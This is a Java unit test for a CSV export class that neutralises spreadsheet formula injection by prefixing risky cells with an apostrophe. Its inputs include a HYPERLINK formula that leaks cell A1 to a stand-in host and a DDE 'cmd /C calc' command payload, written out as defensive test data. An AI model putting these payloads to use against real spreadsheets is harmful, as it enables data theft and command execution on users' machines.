package fr.roubaix.cln.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SpreadsheetCsvTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=HYPERLINK(\"http://mechant.exemple/?\"&A1;\"Cliquez\")",
                "+33612345678",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1;2)",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "\uFF1D1+1",
                "\uFF0B1",
                "\uFF0D1",
                "\uFF20SUM(1)"
            })
    void what_a_spreadsheet_would_compute_begins_with_an_apostrophe(String text) {
        assertThat(written(text)).isEqualTo("\uFEFF\"titre\"\r\n\"'" + text.replace("\"", "\"\"") + "\"\r\n");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "Zoé", "12 bis, rue", "a=b", " =1", "'=1", "a;b", "une\r\nautre"})
    void what_it_would_show_stays_as_it_is(String text) {
        assertThat(written(text)).isEqualTo("\uFEFF\"titre\"\r\n\"" + text + "\"\r\n");
    }

    @Test
    void a_quote_ends_no_cell_and_a_separator_begins_none() {
        assertThat(written("a\";=1+1;\"")).contains("\"a\"\";=1+1;\"\"\"");
    }

    private static String written(String text) {
        return new String(SpreadsheetCsv.of(List.of("titre"), Stream.of(List.of(text))), StandardCharsets.UTF_8);
    }
}
